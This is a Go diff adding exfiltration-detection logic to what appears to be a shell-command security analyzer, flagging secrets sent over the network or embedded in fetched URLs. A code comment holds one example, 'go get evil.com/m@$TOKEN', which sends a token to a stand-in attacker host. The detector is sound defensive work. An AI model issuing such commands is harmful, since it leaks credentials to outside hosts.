@@ -1017,3 +1017,84 @@ func cloudFollows(lb string, args []word) bool {
 	}
 	return true
 }
+
+// sends reads what the command sends or copies: socat between local files
+// is a copy; a network tool's words are read by network(); any other
+// command's flag values are read for secrets.
+func (c *plainCall) sends() {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	if reads, writes, ok := socatLocal(lb, args); ok {
+		// socat FILE:a FILE:b is a copy, like cp: its files are read and written
+		for _, w := range reads {
+			a.readWord(w, sc, idx, false)
+		}
+		for _, w := range writes {
+			a.writeWord(w, sc, idx)
+		}
+	} else if (netReads(lb) || lookupSubcmd(uploaders, lb, args) || reachesNetwork(lb, args)) && !c.localSync() {
+		c.s.or(a.network(f, idx, lb, args, sc))
+	} else if !parsedOptions[lb] {
+		a.flagValueSecrets(lb, args, sc, idx, nil)
+	}
+}
+
+// localSync says the command is a sync between local paths (rsync
+// without a remote operand: a copy, cmds/files.go), not the network's.
+func (c *plainCall) localSync() bool {
+	t := cmds.FileToolOf(c.lb)
+	return t != nil && t.Does == cmds.Syncs && !remoteArgs(c.args)
+}
+
+// exfil is the floor for a secret the command sends: a tainted word or a
+// secret's variable on the network, or a token in a URL a fetcher gets
+// from another service's host.
+func (c *plainCall) exfil() {
+	a, f, idx, lb, args := c.a, c.f, c.idx, c.lb, c.args
+	for _, w := range args {
+		if w.taint && c.s.net || w.secretName != "" && c.s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
+			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
+		}
+		// git clone, pip install -i, npm i URL fetch the URL they are given:
+		// a token in it goes to that host as surely as with curl
+		if t := cmds.ToolOf(lb); w.secretName != "" && t != nil && t.FetchesURLs {
+			h := urlHost(w.val)
+			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
+				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
+			}
+			if h != "" && secretOffService(w.secretName, []string{h}) {
+				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
+			}
+		}
+	}
+}
+
+// urlHost is the host of a URL inside v (scheme://[user@]host[:port]/…,
+// or git's user@host:path), or "".
+func urlHost(v string) string {
+	if i := strings.Index(v, "://"); i >= 0 {
+		v = v[i+3:]
+		v, _, _ = strings.Cut(v, "/")
+		if j := strings.LastIndexByte(v, '@'); j >= 0 {
+			v = v[j+1:]
+		}
+		v, _, _ = strings.Cut(v, ":")
+		return v
+	}
+	if at := strings.IndexByte(v, '@'); at > 0 {
+		if h, _, ok := strings.Cut(v[at+1:], ":"); ok && !strings.Contains(h, "/") {
+			return h
+		}
+	}
+	return ""
+}
+
+// hostsOf lists the hosts command idx connects to.
+func (a *analyzer) hostsOf(idx int) []string {
+	var hosts []string
+	for _, g := range a.facts[max(idx, 0):] {
+		if g.kind == protocol.FactNetwork && g.parent == idx {
+			hosts = append(hosts, g.host)
+		}
+	}
+	return hosts
+}
